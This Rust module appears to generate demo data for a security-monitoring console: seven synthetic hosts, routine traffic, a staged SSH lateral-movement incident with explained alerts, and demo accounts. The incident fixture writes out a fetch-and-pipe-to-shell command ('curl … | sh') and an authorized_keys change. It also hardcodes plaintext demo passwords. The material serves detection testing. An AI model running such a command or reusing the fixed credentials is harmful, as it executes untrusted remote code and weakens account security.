//! The demo fleet: seven hosts with two days of routine activity, one
//! lateral-movement incident hr-laptop-05 → jump-06 → db-03 two hours ago,
//! a burst of failed root logins, a rare binary and a sensor that lost
//! events; plus [`EventWriter`] to build such streams by hand and the demo
//! console ([`demo_state`]) with its accounts. Used by the web UI's tests,
//! the browser walk-through, screenshots and `console-demo`.

use crate::console_store::MemoryConsoleStore;
pub use crate::event_writer::EventWriter;
use crate::read_api::MemoryReadApi;
use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use vigil_proto::event::*;
use vigil_proto::query::*;
use vigil_web_ui::auth::hash_password;
use vigil_web_ui::error::UiError;
use vigil_web_ui::store::{ConsoleStore, Role, User};
use vigil_web_ui::ConsoleState;

const S: u64 = 1_000_000_000;
const MIN: u64 = 60 * S;
const HOUR: u64 = 60 * MIN;

/// 10.0.1.`last`, the demo fleet's subnet.
fn ip(last: u8) -> Ipv4Addr {
    Ipv4Addr::new(10, 0, 1, last)
}

/// 10.0.1.`last`:`port`.
fn sock(last: u8, port: u16) -> SocketAddr {
    SocketAddr::new(IpAddr::V4(ip(last)), port)
}

/// A host summary with sensible defaults.
pub fn host(id: u64, name: &str, os: &str, last: u8, now: u64) -> HostSummary {
    HostSummary {
        id: HostId(id),
        hostname: name.into(),
        os: os.into(),
        addrs: vec![IpAddr::V4(ip(last))],
        sensor_version: "0.1.0".into(),
        enrolled_ns: now - 30 * 24 * HOUR,
        last_seen_ns: now - 7 * S,
        state: SensorState::Online,
        cpu_pct: 0.4,
        rss_bytes: 31 << 20,
        events_total: 0,
        lost_total: 0,
        isolated: false,
        open_alerts: 0,
        warnings: Vec::new(),
    }
}

/// Routine background activity for one host over the last 48 hours.
fn routine(w: &mut EventWriter, me: u8, now: u64, salt: u64) {
    let start = now - 48 * HOUR;
    for h in 0..48u64 {
        let t = start + h * HOUR + (salt * 7 + h * 13) % 50 * MIN;
        let busy = if (8..18).contains(&((h + 14) % 24)) {
            3
        } else {
            1
        };
        for k in 0..busy + (salt + h) % 2 {
            w.flow(
                t + k * 90 * S,
                false,
                sock(me, 40_000 + k as u16),
                sock(70, 389),
                "/usr/sbin/sssd",
            );
        }
        w.flow(
            t + 5 * MIN,
            false,
            sock(me, 41_000),
            sock(20, 443),
            "/usr/bin/curl",
        );
        if h % 6 == 0 {
            w.exec(
                t + 2 * MIN,
                2000 + h as u32,
                1,
                "/usr/sbin/cron",
                &["/usr/sbin/cron", "-f"],
                "root",
                "/usr/lib/systemd/systemd",
            );
            w.exec(
                t + 2 * MIN + S,
                2001 + h as u32,
                2000 + h as u32,
                "/usr/bin/logrotate",
                &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
                "root",
                "/usr/sbin/cron",
            );
        }
    }
}

/// The demo fleet's hosts: (id, name, OS, last octet of 10.0.1.x).
const HOSTS: [(u64, &str, &str, u8); 7] = [
    (0x0a01, "web-01", "Debian 12", 10),
    (0x0a02, "app-02", "Debian 12", 20),
    (0x0a03, "db-03", "Debian 12", 30),
    (0x0a04, "build-04", "Ubuntu 24.04", 40),
    (0x0a05, "hr-laptop-05", "Ubuntu 24.04", 50),
    (0x0a06, "jump-06", "Debian 12", 60),
    (0x0a07, "dc-07", "Windows Server 2022", 70),
];

/// The hosts (with some fleet-health variety) and their routine activity.
fn demo_hosts(now: u64) -> (Vec<HostSummary>, BTreeMap<u64, EventWriter>) {
    let mut hosts = Vec::new();
    let mut writers = BTreeMap::new();
    for (i, (id, name, os, last)) in HOSTS.iter().enumerate() {
        hosts.push(host(*id, name, os, *last, now));
        let mut w = EventWriter::new(HostId(*id));
        routine(&mut w, *last, now, i as u64);
        writers.insert(*id, w);
    }
    hosts[3].state = SensorState::Stale;
    hosts[3].last_seen_ns = now - 4 * MIN;
    hosts[6].state = SensorState::Offline;
    hosts[6].last_seen_ns = now - 26 * HOUR;
    hosts[6].sensor_version = "0.0.9".into();
    hosts[1].cpu_pct = 0.9;
    hosts[2].rss_bytes = 44 << 20;
    (hosts, writers)
}

/// Seqs of the events the demo's alerts cite.
struct Evidence {
    /// hr-laptop-05's ssh connection to jump-06.
    a_connect: u64,
    /// jump-06 accepting it.
    b_accept: u64,
    /// svc-backup's login on jump-06.
    b_login: u64,
    /// jump-06's ssh connection on to db-03.
    b_connect: u64,
    /// svc-backup's login on db-03.
    c_login: u64,
    /// authorized_keys changed on db-03.
    c_file: u64,
    /// The failed root logins on web-01.
    fails: Vec<u64>,
    /// The rare binary on build-04.
    rare: u64,
}

/// The incident at `t0`: A = hr-laptop-05 → B = jump-06 → C = db-03 as
/// svc-backup, a script fetched and run on C and its authorized_keys changed.
fn incident(w: &mut BTreeMap<u64, EventWriter>, t0: u64) -> [u64; 6] {
    let a = w.get_mut(&0x0a05).expect("host a");
    a.exec(
        t0 - 3 * MIN,
        5120,
        4800,
        "/usr/bin/ssh",
        &["ssh", "svc-backup@jump-06"],
        "alice",
        "/usr/bin/bash",
    );
    let a_connect = a.flow(t0, false, sock(50, 51_000), sock(60, 22), "/usr/bin/ssh");
    let b = w.get_mut(&0x0a06).expect("host b");
    let b_accept = b.flow(
        t0 + S,
        true,
        sock(60, 22),
        sock(50, 51_000),
        "/usr/sbin/sshd",
    );
    let b_login = b.login(t0 + 2 * S, true, "svc-backup", Some(IpAddr::V4(ip(50))));
    b.exec(
        t0 + 3 * S,
        6001,
        6000,
        "/usr/bin/bash",
        &["-bash"],
        "svc-backup",
        "/usr/sbin/sshd",
    );
    let b_connect = b.flow(
        t0 + 4 * MIN,
        false,
        sock(60, 52_000),
        sock(30, 22),
        "/usr/bin/ssh",
    );
    let c = w.get_mut(&0x0a03).expect("host c");
    let c_login = c.login(
        t0 + 4 * MIN + S,
        true,
        "svc-backup",
        Some(IpAddr::V4(ip(60))),
    );
    c.exec(
        t0 + 4 * MIN + 2 * S,
        7001,
        7000,
        "/usr/bin/bash",
        &["bash", "-c", "curl -s 10.0.1.60:8000/x.sh | sh"],
        "svc-backup",
        "/usr/sbin/sshd",
    );
    c.exec(
        t0 + 4 * MIN + 3 * S,
        7002,
        7001,
        "/usr/bin/curl",
        &["curl", "-s", "10.0.1.60:8000/x.sh"],
        "svc-backup",
        "/usr/bin/bash",
    );
    let c_file = c.file(
        t0 + 9 * MIN,
        "/home/svc-backup/.ssh/authorized_keys",
        FileOp::Modified,
    );
    [a_connect, b_accept, b_login, b_connect, c_login, c_file]
}

/// Everything else worth a look: failed root logins on web-01, a rare
/// binary on build-04, and a loss record on dc-07. Returns the failures'
/// and the binary's seqs.
fn noise(w: &mut BTreeMap<u64, EventWriter>, now: u64) -> (Vec<u64>, u64) {
    let w1 = w.get_mut(&0x0a01).expect("web");
    let fails = (0..12)
        .map(|k| {
            w1.login(
                now - 40 * MIN + k * 4 * S,
                false,
                "root",
                Some(IpAddr::V4(Ipv4Addr::new(10, 0, 9, 14))),
            )
        })
        .collect();
    let bld = w.get_mut(&0x0a04).expect("build");
    let rare = bld.exec(
        now - 25 * MIN,
        9100,
        9000,
        "/tmp/go-build3321/b001/exe/a.out",
        &["./a.out", "--test.v"],
        "ci",
        "/usr/bin/go",
    );
    let hw = w.get_mut(&0x0a07).expect("dc");
    hw.push(
        now - 27 * HOUR,
        Payload::Loss(LossRecord {
            from_seq: 900,
            to_seq: 1019,
            count: 120,
            reason: LossReason::SpoolFull,
        }),
    );
    (fails, rare)
}

/// One explained feature deviation.
fn dev(
    feature: &str,
    observed: f64,
    baseline: f64,
    score: f64,
    sentence: &str,
) -> FeatureDeviation {
    FeatureDeviation {
        feature: feature.into(),
        observed,
        baseline,
        score,
        sentence: sentence.into(),
    }
}

/// The incident's alert: critical, new, with its explanation.
fn incident_alert(t0: u64, ev: &Evidence) -> AlertRecord {
    let (ha, hb, hc) = (HostId(0x0a05), HostId(0x0a06), HostId(0x0a03));
    AlertRecord {
        ports: vec![22],
        processes: vec!["bash".into()],
        id: 101,
        created_ns: t0 + 10 * MIN,
        severity: Severity::Critical,
        score: 0.97,
        title: "Lateral movement: hr-laptop-05 → jump-06 → db-03".into(),
        path: vec![ha, hb, hc],
        users: vec!["svc-backup".into()],
        techniques: vec!["T1021.004".into(), "T1078".into(), "T1098.004".into()],
        summary: "An SSH session from hr-laptop-05 to jump-06 was followed four minutes later by a second hop from jump-06 to db-03 with the same account, where a shell fetched and ran a script and authorized_keys was changed.".into(),
        deviations: vec![
            dev("new_peers", 1.0, 0.02, 5.9, "jump-06 accepted SSH from hr-laptop-05, a peer it had never talked to in 14 days of baseline."),
            dev("new_user_src_dst", 1.0, 0.0, 6.4, "svc-backup logged in to db-03 from jump-06 for the first time; this account normally logs in only from build-04."),
            dev("remote_spawned", 2.0, 0.1, 4.8, "The SSH session on db-03 started bash running `curl … | sh`; remote sessions on db-03 spawn a shell 0.1 times per day."),
            dev("chain_minutes", 4.0, 0.0, 4.1, "The second hop started 4 minutes after the first, on the same account: one campaign, not two events."),
        ],
        evidence: vec![(ha, ev.a_connect), (hb, ev.b_accept), (hb, ev.b_login), (hb, ev.b_connect), (hc, ev.c_login), (hc, ev.c_file)],
        state: TriageState::New,
        assignee: None,
        incident_id: None,
        model_version: Some("graph-novelty v3 · 9f2c41e0".into()),
        suppressed_by: None,
    }
}

/// The rare-binary alert on build-04 (one open, six closed on earlier days).
fn rare_alert(id: u64, created: u64, state: TriageState, rare: u64) -> AlertRecord {
    AlertRecord {
        ports: Vec::new(),
        processes: Vec::new(),
        id,
        created_ns: created,
        severity: Severity::Low,
        score: 0.34,
        title: "Rare binary executed".into(),
        path: vec![HostId(0x0a04)],
        users: vec!["ci".into()],
        techniques: vec![],
        summary: "A binary never seen on build-04 ran from /tmp.".into(),
        deviations: vec![dev(
            "rare_binaries",
            1.0,
            0.2,
            2.1,
            "build-04 ran /tmp/go-build3321/b001/exe/a.out, never seen on this host.",
        )],
        evidence: vec![(HostId(0x0a04), rare)],
        state,
        assignee: None,
        incident_id: None,
        model_version: Some("graph-novelty v3 · 9f2c41e0".into()),
        suppressed_by: None,
    }
}

/// All demo alerts, newest first.
fn demo_alerts(now: u64, t0: u64, ev: &Evidence) -> Vec<AlertRecord> {
    let mut alerts = vec![incident_alert(t0, ev)];
    alerts.push(AlertRecord {
        ports: Vec::new(),
        processes: Vec::new(),
        id: 104,
        created_ns: now - 38 * MIN,
        severity: Severity::Medium,
        score: 0.61,
        title: "Burst of SSH authentication failures".into(),
        path: vec![HostId(0x0a01)],
        users: vec!["root".into()],
        techniques: vec!["T1110.001".into()],
        summary: "12 failed root logins over SSH from 10.0.9.14 in 48 seconds.".into(),
        deviations: vec![dev(
            "auth_failures",
            12.0,
            0.4,
            3.7,
            "web-01 saw 12 failed logins in 5 minutes against a baseline of 0.4.",
        )],
        evidence: ev
            .fails
            .iter()
            .take(3)
            .map(|s| (HostId(0x0a01), *s))
            .collect(),
        state: TriageState::New,
        assignee: None,
        incident_id: None,
        model_version: Some("gmm v2 · 31bd07aa".into()),
        suppressed_by: None,
    });
    alerts.push(rare_alert(105, now - 24 * MIN, TriageState::New, ev.rare));
    for d in 1..=6u64 {
        alerts.push(rare_alert(
            90 + d,
            now - d * 24 * HOUR,
            TriageState::ClosedFalsePositive,
            ev.rare,
        ));
    }
    alerts.sort_by_key(|a| std::cmp::Reverse(a.created_ns));
    alerts
}

/// The fleet graph: three weeks of routine edges plus the incident's hops.
fn demo_edges(now: u64, t0: u64) -> Vec<EdgeRecord> {
    let edge = |s: u64, d: u64, port: u16, user: Option<&str>, first: u64, count: u64| EdgeRecord {
        src: HostId(s),
        dst: HostId(d),
        port,
        user: user.map(Into::into),
        first_seen_ns: first,
        last_seen_ns: now - 3 * MIN,
        count,
    };
    let old = now - 20 * 24 * HOUR;
    vec![
        edge(0x0a01, 0x0a02, 8080, None, old, 91_022),
        edge(0x0a02, 0x0a03, 5432, None, old, 55_410),
        edge(0x0a04, 0x0a03, 22, Some("svc-backup"), old, 312),
        edge(0x0a04, 0x0a02, 22, Some("deploy"), old, 880),
        edge(0x0a05, 0x0a02, 443, None, old, 4_002),
        edge(0x0a06, 0x0a01, 22, Some("ops"), old, 240),
        edge(0x0a06, 0x0a02, 22, Some("ops"), old, 198),
        edge(0x0a01, 0x0a07, 389, None, old, 20_551),
        edge(0x0a02, 0x0a07, 389, None, old, 19_876),
        edge(0x0a03, 0x0a07, 389, None, old, 18_002),
        edge(0x0a05, 0x0a07, 445, None, old, 7_301),
        edge(0x0a05, 0x0a06, 22, Some("svc-backup"), t0, 1),
        edge(0x0a06, 0x0a03, 22, Some("svc-backup"), t0 + 4 * MIN, 1),
    ]
}

/// The demo appliance's counters.
fn demo_stats(events_total: u64) -> ApplianceStats {
    ApplianceStats {
        events_total,
        events_per_s: 1_284.6,
        duplicates_total: 37,
        lost_total: 120,
        rejected_frames_total: 2,
        bytes_on_disk: 18_400_000_000,
        retention_days: 90,
        retention_bytes: 500 << 30,
        counters: vec![
            ("rejected_frames{reason=\"malformed\"}".into(), 2),
            ("ingest_batches_total".into(), 1_904_221),
            ("detections_scored_total".into(), 88_410),
        ],
    }
}

/// The demo fleet at time `now` (ns): seven hosts, routine traffic, and one
/// lateral-movement incident hr-laptop-05 → jump-06 → db-03 two hours ago.
pub fn demo_read_api_at(now: u64) -> MemoryReadApi {
    let (hosts, mut writers) = demo_hosts(now);
    let t0 = now - 2 * HOUR - 17 * MIN;
    let [a_connect, b_accept, b_login, b_connect, c_login, c_file] = incident(&mut writers, t0);
    let (fails, rare) = noise(&mut writers, now);
    let ev = Evidence {
        a_connect,
        b_accept,
        b_login,
        b_connect,
        c_login,
        c_file,
        fails,
        rare,
    };
    let mut api = MemoryReadApi {
        hosts,
        ..MemoryReadApi::default()
    };
    for (id, w) in writers {
        let mut evs = w.events;
        evs.sort_by_key(|e| (e.header.ts_ns, e.header.seq));
        let h = api
            .hosts
            .iter_mut()
            .find(|h| h.id == HostId(id))
            .expect("host");
        h.events_total = evs.len() as u64;
        api.events.insert(HostId(id), evs);
    }
    api.hosts[6].lost_total = 120;
    api.alerts = demo_alerts(now, t0, &ev);
    api.count_open_alerts();
    api.edges = demo_edges(now, t0);
    api.stats = demo_stats(api.events.values().map(|v| v.len() as u64).sum());
    api
}

/// [`demo_read_api_at`] at the current system time.
pub fn demo_read_api() -> Arc<MemoryReadApi> {
    Arc::new(demo_read_api_at(vigil_web_ui::system_now_ns()))
}

/// Demo accounts: (name, role, password). For tests and the local demo only.
pub const DEMO_USERS: [(&str, Role, &str); 3] = [
    ("admin", Role::Admin, "admin-demo-password"),
    ("ana", Role::Analyst, "analyst-demo-password"),
    ("viv", Role::Viewer, "viewer-demo-password"),
];

/// A console over the demo fleet at `now`, with the [`DEMO_USERS`] and a
/// clock fixed at `now`. Returns the store too, for inspection in tests.
pub fn demo_state(now: u64) -> Result<(ConsoleState, Arc<MemoryConsoleStore>), UiError> {
    let store = Arc::new(MemoryConsoleStore::new());
    for (name, role, pw) in DEMO_USERS {
        ConsoleStore::put_user(
            store.as_ref(),
            User {
                name: name.into(),
                role,
                password_hash: hash_password(pw)?,
                created_ns: now - 10 * 24 * HOUR,
                must_change_password: false,
                disabled: false,
            },
        )?;
    }
    let state = ConsoleState::new(Arc::new(demo_read_api_at(now)), store.clone())
        .with_clock(Arc::new(move || now));
    Ok((state, store))
}
